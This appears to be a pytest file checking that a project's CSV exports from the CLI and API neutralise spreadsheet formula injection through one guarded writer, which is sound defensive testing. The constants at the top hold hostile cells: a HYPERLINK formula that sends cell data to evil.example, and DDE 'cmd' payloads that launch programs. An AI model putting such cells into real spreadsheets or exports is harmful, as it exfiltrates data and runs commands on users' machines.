"""Issue 14.8: every CSV eventwire writes goes through the one guarded writer
(eventwire.csvsafe), so no cell that a spreadsheet would run as a formula leaves it:
``export`` (events, quotes, figures), ``events``, ``quotes``, ``figures`` and ``search``
with ``--format csv``, and the API's ``format=csv`` lists."""
from __future__ import annotations

import csv
import io

import pytest
from test_store import make_record

from eventwire.csvsafe import FORMULA_START, safe_cell

# Payloads in several shapes: DDE, a HYPERLINK exfiltration, a plus-started sum, an
# at-sign function, a leading tab and a leading carriage return.
EVIL_ACTOR = '=HYPERLINK("http://evil.example/?"&A1,"x")'
EVIL_SOURCE = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_URL = "+1-2+cmd|' /C notepad'!A1"
EVIL_SPEAKER_CUE = "-2+3+cmd"


def _hostile_record():
    rec = make_record(actor=EVIL_ACTOR, actor_code="PSEREB", source=EVIL_SOURCE, url=EVIL_URL)
    q = rec.quotes[0].model_copy(update={"cue": EVIL_SPEAKER_CUE})
    f = rec.figures[0].model_copy(update={"subject": "\tpeople", "qualifier": "\r=1+1"})
    return rec.model_copy(update={"quotes": [q], "figures": [f]})


@pytest.fixture
def hostile_db(tmp_path):
    from eventwire.store import open_store

    db = str(tmp_path / "hostile.db")
    s = open_store(db)
    s.add_record(_hostile_record())
    s.close()
    return db


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_guarded(text: str, *expected: str) -> None:
    cells = _cells(text)
    assert len(cells) > 10, text[:200]
    for cell in cells:
        if cell.startswith(FORMULA_START):
            float(cell)  # only a number written by the store may start with '-' or '+'
    for payload in expected:
        assert any(c == "'" + payload or c.startswith("'" + payload) for c in cells), payload


def test_safe_cell_neutralises_text_and_keeps_numbers():
    for payload in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\r=x", "-3.5"):
        assert safe_cell(payload) == "'" + payload
    assert safe_cell(-9.5) == "-9.5" and safe_cell(-3) == "-3" and safe_cell(True) == "true"
    assert safe_cell(["=a", "b"]) == "'=a;b" and safe_cell(None) == "" and safe_cell("a=b") == "a=b"


@pytest.mark.parametrize("what, payloads", [
    ("events", (EVIL_ACTOR, EVIL_SOURCE, EVIL_URL)),
    ("quotes", (EVIL_SOURCE, EVIL_SPEAKER_CUE, EVIL_URL)),
    ("figures", (EVIL_SOURCE, "\tpeople", "\r=1+1")),
])
def test_export_csv_is_guarded(hostile_db, capsys, what, payloads):
    from eventwire.cli import main

    assert main(["export", what, "--db", hostile_db, "--format", "csv"]) == 0
    _assert_guarded(capsys.readouterr().out, *payloads)


@pytest.mark.parametrize("command, payloads", [
    (["events"], (EVIL_ACTOR, EVIL_SOURCE)),
    (["quotes"], (EVIL_SOURCE, EVIL_SPEAKER_CUE)),
    (["figures"], (EVIL_SOURCE, "\r=1+1")),
    (["search", "hostages"], (EVIL_SOURCE,)),
])
def test_list_commands_csv_is_guarded(hostile_db, capsys, command, payloads):
    from eventwire.cli import main

    assert main([*command, "--db", hostile_db, "--format", "csv"]) == 0
    _assert_guarded(capsys.readouterr().out, *payloads)


def test_export_to_a_file_is_guarded(hostile_db, tmp_path):
    from eventwire.cli import main

    out = tmp_path / "events.csv"
    assert main(["export", "--db", hostile_db, "-o", str(out)]) == 0
    _assert_guarded(out.read_text(encoding="utf-8"), EVIL_ACTOR, EVIL_URL)


@pytest.mark.parametrize("path, payloads", [
    ("/api/events", (EVIL_ACTOR, EVIL_SOURCE)),
    ("/api/quotes", (EVIL_SPEAKER_CUE, EVIL_SOURCE)),
    ("/api/figures", ("\tpeople", EVIL_SOURCE)),
    ("/api/articles", (EVIL_SOURCE, EVIL_URL)),
])
def test_api_csv_is_guarded(hostile_db, path, payloads):
    from fastapi.testclient import TestClient

    from eventwire.api import ServerSettings, create_app

    with TestClient(create_app(hostile_db, ServerSettings())) as client:
        resp = client.get(path, params={"format": "csv"})
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/csv")
    _assert_guarded(resp.text, *payloads)


def test_no_other_csv_writer_in_the_package():
    """A new CSV path must use eventwire.csvsafe, not a writer of its own."""
    import re
    from pathlib import Path

    import eventwire

    root = Path(eventwire.__file__).parent
    own = [str(p.relative_to(root)) for p in root.rglob("*.py") if p.name != "csvsafe.py"
           and re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))]
    assert own == []
